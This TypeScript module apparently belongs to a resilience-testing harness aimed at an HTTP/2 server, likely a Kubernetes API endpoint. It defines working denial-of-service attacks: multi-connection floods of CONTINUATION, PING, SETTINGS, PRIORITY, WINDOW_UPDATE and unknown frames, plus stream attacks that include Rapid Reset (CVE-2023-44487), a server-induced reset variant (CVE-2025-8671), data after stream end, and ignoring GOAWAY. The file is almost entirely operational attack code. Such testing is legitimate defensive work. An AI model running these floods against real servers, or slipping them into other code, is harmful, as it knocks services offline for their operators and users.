import type { Arena, Attack } from '../attack.ts'
import { many } from '../client.ts'
import * as f from '../frames.ts'
import { Tally } from '../tally.ts'
import { http2, type Http2Wire } from '../wire.ts'

const PER_WRITE = 1000
const SETTLE_MS = 1000

/** Each connection sends `first` and then `bytes` over and over, `count` times unless it is cut before. */
function flood(
  name: string,
  o: {
    connections: number
    count: number
    first?: (a: Arena) => Buffer
    unit: (a: Arena) => Buffer
    perWrite?: number
    /** Reads nothing until it has sent everything. */
    deaf?: boolean
  },
): Attack {
  return {
    name: `frames/${name}`,
    prepare(arena) {
      const per = o.perWrite ?? PER_WRITE
      const bytes = Buffer.concat(Array.from({ length: per }, () => o.unit(arena)))
      const first = o.first?.(arena)
      return async () => {
        const tally = new Tally()
        const one = async (): Promise<void> => {
          const wire = await http2(arena)
          if (first !== undefined) await wire.send(first)
          if (o.deaf === true) wire.socket.pause()
          for (let sent = 0; sent < o.count && wire.end === undefined && !arena.signal.aborted; sent += per) {
            await wire.send(bytes)
            await new Promise((resolve) => setImmediate(resolve))
          }
          wire.socket.resume()
          await wire.ended(SETTLE_MS)
          wire.settle(tally)
        }
        const connections = arena.times(o.connections)
        await many(arena, connections, connections, () => one().catch((e: Error) => tally.add(e.message)))
        return tally
      }
    },
  }
}

/** Blocks of a request that are begun and not ended. */
const begun = (): Buffer => f.frame(f.type.headers, f.END_STREAM, 1, f.getBlock('/version'))
const zeros = Buffer.alloc(8)

const floods: Attack[] = [
  flood('continuation of one byte', {
    connections: 20,
    count: 300_000,
    first: begun,
    unit: () => f.frame(f.type.continuation, 0, 1, zeros.subarray(0, 1)),
  }),
  flood('continuation of nothing', { connections: 10, count: 300_000, first: begun, unit: () => f.frame(f.type.continuation, 0, 1) }),
  flood('continuation, full', {
    connections: 10,
    count: 2000,
    perWrite: 20,
    first: begun,
    unit: () => f.frame(f.type.continuation, 0, 1, Buffer.alloc(16_384, f.literal('x-a', 'b'.repeat(250)))),
  }),
  flood('ping', { connections: 10, count: 200_000, unit: () => f.frame(f.type.ping, 0, 0, zeros) }),
  flood('ping, answers not read', {
    connections: 10,
    count: 200_000,
    unit: () => f.frame(f.type.ping, 0, 0, zeros),
    deaf: true,
  }),
  flood('settings', { connections: 10, count: 200_000, unit: () => f.settings() }),
  flood('settings of window sizes', { connections: 10, count: 50_000, unit: () => f.settings({ [f.INITIAL_WINDOW_SIZE]: 1 }) }),
  flood('priority', { connections: 10, count: 200_000, unit: () => f.frame(f.type.priority, 0, 1, Buffer.from([0, 0, 0, 3, 7])) }),
  flood('unknown type', { connections: 10, count: 200_000, unit: () => f.frame(f.type.unknown, 0, 0, zeros) }),
  flood('window update', { connections: 10, count: 200_000, unit: () => f.windowUpdate(0, 1) }),
]

interface Streams {
  connections: number
  streams: number
  /** Frames of one stream. */
  of(arena: Arena, id: number): Buffer
}

/** Streams that are opened as fast as the connection takes them. */
function opened(name: string, o: Streams): Attack {
  return {
    name: `frames/${name}`,
    prepare: (arena) => async () => {
      const tally = new Tally()
      const one = async (): Promise<void> => {
        const wire: Http2Wire = await http2(arena)
        for (let i = 0; i < o.streams && wire.end === undefined && !arena.signal.aborted; i += 100) {
          await wire.send(Buffer.concat(Array.from({ length: 100 }, (_, k) => o.of(arena, (i + k) * 2 + 1))))
          await new Promise((resolve) => setImmediate(resolve))
        }
        await wire.ended(SETTLE_MS)
        wire.settle(tally)
      }
      const connections = arena.times(o.connections)
      await many(arena, connections, connections, () => one().catch((e: Error) => tally.add(e.message)))
      return tally
    },
  }
}

const CANCEL = 8
const list = (arena: Arena, id: number, flags = f.END_STREAM): Buffer =>
  f.headerFrames(id, f.getBlock('/api/v1/configmaps', arena.target.viewerToken), flags)

const streams: Attack[] = [
  // CVE-2023-44487.
  opened('rapid reset', { connections: 10, streams: 20_000, of: (a, id) => Buffer.concat([list(a, id), f.rstStream(id, CANCEL)]) }),
  // CVE-2025-8671: the server is made to reset.
  opened('made to reset', { connections: 10, streams: 20_000, of: (a, id) => Buffer.concat([list(a, id), f.windowUpdate(id, 0)]) }),
  opened('data after the end', {
    connections: 10,
    streams: 20_000,
    of: (a, id) => Buffer.concat([list(a, id), f.frame(f.type.data, 0, id, zeros)]),
  }),
  opened('without a method', { connections: 10, streams: 20_000, of: (_, id) => f.headerFrames(id, f.literal(':path', '/')) }),
  opened('empty data', {
    connections: 5,
    streams: 100,
    of: (a, id) => Buffer.concat([list(a, id, 0), ...Array.from({ length: 1000 }, () => f.frame(f.type.data, 0, id))]),
  }),
  opened('data of one byte', {
    connections: 5,
    streams: 100,
    of: (a, id) =>
      Buffer.concat([
        f.headerFrames(id, f.getBlock('/api/v1/configmaps', a.target.viewerToken), 0),
        ...Array.from({ length: 1000 }, () => f.frame(f.type.data, 0, id, zeros.subarray(0, 1))),
      ]),
  }),
  // An anonymous client that does not heed the GOAWAY after its first request.
  opened('anonymous, on and on', { connections: 5, streams: 2000, of: (_, id) => f.headerFrames(id, f.getBlock('/version')) }),
]

export const frames: readonly Attack[] = [...floods, ...streams]
